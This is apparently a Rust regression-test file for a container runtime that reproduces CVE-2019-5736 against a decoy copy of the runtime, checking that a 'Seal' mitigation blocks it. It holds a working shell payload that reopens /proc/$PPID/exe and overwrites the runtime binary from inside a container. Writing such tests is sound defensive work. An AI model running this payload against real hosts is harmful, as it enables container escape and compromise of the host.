//! Overwriting the runtime through /proc/self/exe (CVE-2019-5736).
//!
//! The image has the runtime execute /proc/self/exe, which is the runtime itself, inside the container; a process there opens
//! /proc/PID/exe of that, and writes to the machine's file through the descriptor as soon as nobody executes it any more
//! (until then the kernel answers ETXTBSY). The decoy is a copy of the program in a temporary folder.

use crate::lab::{Build, Tried, WAIT, bundle, container, share, stopped_by, text};
use serde_json::json;
use std::path::Path;
use std::process::{Command, Output};
use testkit::container::Runtime;
use testkit::need;

/// Its parent is the runtime, executed again inside, waiting for it.
const ATTACK: &str = "exec 9</proc/$PPID/exe; kill -9 $PPID; i=0; while [ $i -lt 60 ]; do
    said=$( { echo harmed >/proc/self/fd/9; } 2>&1 ); echo \"$said\"
    case $said in *busy*) ;; *) break;; esac
    i=$((i+1)); sleep 0.05
done";

const AGAIN: [&str; 4] = ["/proc/self/exe", "--fork", "/bin/sh", "-c"];

/// What the loader needs to start `program` inside `rootfs`, where it is not linked statically.
fn give_libraries(program: &Path, rootfs: &Path) {
    let listed = Command::new("ldd").arg(program).output().expect("ldd");
    for path in text(&listed.stdout).split_whitespace().filter(|w| w.starts_with("/lib") || w.starts_with("/usr/lib")) {
        let inside = rootfs.join(&path[1..]);
        std::fs::create_dir_all(inside.parent().expect("a folder")).expect("folders");
        std::fs::copy(path, inside).expect("a copy");
    }
}

fn harmed(decoy: &Build, said: String) -> Tried {
    let bytes = std::fs::read(&decoy.program).expect("the decoy");
    Tried { escaped: bytes.starts_with(b"harmed"), said }
}

fn both(output: &Output) -> String {
    format!("{}{}", text(&output.stdout), text(&output.stderr))
}

#[test]
fn cve_2019_5736_run() {
    need!(root, "busybox");
    stopped_by("Seal", |build| {
        let bundle = bundle("", |_, config| {
            config["process"]["args"] = json!(AGAIN.iter().chain([&ATTACK]).collect::<Vec<_>>());
            // The first process can then end without all the others.
            share(config, "pid");
        });
        let decoy = build.copied_to(bundle.path());
        give_libraries(&decoy.program, &bundle.path().join("rootfs"));
        let container = container(&decoy, &bundle);
        container.start();
        let end = std::time::Instant::now() + std::time::Duration::from_secs(5);
        let mut tried = harmed(&decoy, container.said());
        while !tried.escaped && !tried.said.contains("Read-only") && std::time::Instant::now() < end {
            std::thread::sleep(std::time::Duration::from_millis(20));
            tried = harmed(&decoy, container.said());
        }
        // The harmed program cannot delete it.
        drop(container_of_another(build, &container));
        tried
    });
}

/// Deletes what `of` made by a program that is whole.
fn container_of_another(build: &Build, of: &testkit::container::Container) -> Output {
    let whole: Runtime = build.runtime();
    let mut delete = whole.command();
    delete.arg("--root").arg(of.bundle().join("state")).args(["delete", "--force", of.id()]);
    delete.output().expect("starts")
}

#[test]
fn cve_2019_5736_exec() {
    need!(root, "busybox");
    stopped_by("Seal", |build| {
        let bundle = bundle(WAIT, |_, _| {});
        let decoy = build.copied_to(bundle.path());
        give_libraries(&decoy.program, &bundle.path().join("rootfs"));
        let container = container(&decoy, &bundle);
        container.start();
        let tried = harmed(&decoy, both(&container.exec(AGAIN.iter().chain([&ATTACK]))));
        drop(container_of_another(build, &container));
        tried
    });
}

#[test]
fn cve_2019_5736_sandbox() {
    need!(root, "busybox");
    stopped_by("Seal", |build| {
        let bundle = bundle("", |_, _| {});
        let decoy = build.copied_to(bundle.path());
        let rootfs = bundle.path().join("rootfs");
        give_libraries(&decoy.program, &rootfs);
        // `--fork` calls unshare, which the default profile refuses without that capability.
        let mut sandbox = decoy.command();
        sandbox.args(["--mount", "--cap-add", "CAP_SYS_ADMIN", "--rootfs"]).arg(&rootfs).arg("--");
        let output = sandbox.args(AGAIN).arg(ATTACK).output().expect("starts");
        harmed(&decoy, both(&output))
    });
}

#[test]
fn cve_2019_5736_enter() {
    need!(root, "busybox");
    stopped_by("Seal", |build| {
        let bundle = bundle(WAIT, |_, _| {});
        let decoy = build.copied_to(bundle.path());
        give_libraries(&decoy.program, &bundle.path().join("rootfs"));
        let container = container(build, &bundle);
        container.start();
        let pid = container.state()["pid"].to_string();
        let mut enter = decoy.command();
        enter.args(["enter", "-t", &pid, "-m", "-p", "--"]);
        harmed(&decoy, both(&enter.args(AGAIN).arg(ATTACK).output().expect("starts")))
    });
}
